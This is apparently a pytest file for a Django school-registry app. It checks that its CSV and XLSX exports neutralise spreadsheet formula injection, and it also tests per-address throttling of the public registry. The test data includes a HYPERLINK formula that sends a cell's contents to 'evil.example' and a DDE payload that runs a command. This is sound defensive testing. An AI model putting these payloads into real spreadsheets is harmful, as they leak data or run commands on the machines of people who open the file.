"""Issue 11, finding 2: a text that a school typed must never become a live formula in a
spreadsheet exported by Docket (CSV or XLSX). The files are read back as Excel would see them."""

import csv
import datetime
import io
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from statuses.models import NetworkReport
from tests.story import granted

pytestmark = pytest.mark.django_db
TOMSK = ZoneInfo("Asia/Tomsk")
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'
# Each way a cell can start a formula in Excel, LibreOffice or Google Sheets.
ATTACKS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "  =1+1"]


@pytest.fixture
def evil_status(coordinator, school, program, methodist, secretary, official):
    with time_machine.travel(datetime.datetime(2026, 11, 20, 10, tzinfo=TOMSK), tick=False):
        status = granted(
            coordinator=coordinator,
            school=school,
            program=program,
            methodist=methodist,
            secretary=secretary,
            official=official,
            on=datetime.date(2026, 11, 20),
            order="125-р",
        )
    status.topic = EVIL
    status.save(update_fields=["topic"])
    school.name = "@SUM(1+1) школа"
    school.save(update_fields=["name"])
    return status


def test_the_registry_csv_neutralises_a_formula_in_a_topic(client, evil_status):
    text = client.get(reverse("public-registry-export", args=["csv"])).content.decode()
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    cells = rows[1]
    assert "'" + EVIL in cells and EVIL not in cells
    assert "'@SUM(1+1) школа" in cells
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row if cell)
    assert "31.08.2029" in cells  # dates and plain text untouched


def test_the_registry_xlsx_holds_the_topic_as_text_not_a_formula(client, evil_status):
    book = load_workbook(
        io.BytesIO(client.get(reverse("public-registry-export", args=["xlsx"])).content)
    )
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + EVIL in [c.value for c in cells]
    assert datetime.datetime(2029, 8, 31) in [c.value for c in cells]  # a date stays a date


def test_the_network_report_workbook_neutralises_every_text_and_keeps_numbers(
    client, program, methodist
):
    platform = {
        "organisation": "=1+1",
        "topic": "+SUM(A1:A9)",
        "events_held": -3,
        "young_teachers": 42,
        "schools": 6,
        "mentors": 10,
        "outputs": "@cmd",
        "problems": "\t=2+2",
        "proposals": " -1",
    }
    report = NetworkReport.objects.create(
        program=program,
        academic_year=2026,
        data={
            "platforms": [platform],
            "totals": {"events_held": -3, "young_teachers": 42, "schools": 6, "mentors": 10},
            "missing": [{"organisation": "=EVIL()", "state": "-"}],
        },
        compiled_at=timezone.now(),
        compiled_by=methodist,
    )
    client.force_login(methodist)
    response = client.get(reverse("network-report-xlsx", args=[report.pk]))
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    rows = [[c.value for c in row] for row in book.worksheets[0].iter_rows()]
    assert rows[1] == ["'=1+1", "'+SUM(A1:A9)", -3, 42, 6, 10, "'@cmd", "'\t=2+2", "' -1"]
    assert [[c.value for c in row] for row in book.worksheets[1].iter_rows()] == [
        ["'=EVIL()", "'-"]
    ]


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_one_helper_neutralises_each_formula_start(attack):
    from core.spreadsheets import cell_safe

    assert cell_safe(attack) == "'" + attack


@pytest.mark.parametrize(
    "value", [42, -3, 2.5, None, datetime.date(2029, 8, 31), "Школа № 7", "", "a=b", "'quoted"]
)
def test_the_helper_leaves_numbers_dates_and_plain_text_alone(value):
    from core.spreadsheets import cell_safe

    assert cell_safe(value) == value


def test_the_public_registry_and_its_exports_are_throttled_per_address(client, settings):
    """Public and unauthenticated like the verification page: the same per-address budget."""
    settings.PUBLIC_REGISTRY_REQUESTS_PER_MINUTE = 2
    assert client.get(reverse("public-registry")).status_code == 200
    assert client.get(reverse("public-registry-export", args=["xlsx"])).status_code == 200
    refused = client.get(reverse("public-registry-export", args=["csv"]))
    assert refused.status_code == 429 and "Слишком много" in refused.content.decode()
    other = client.get(reverse("public-registry"), REMOTE_ADDR="198.51.100.8")
    assert other.status_code == 200
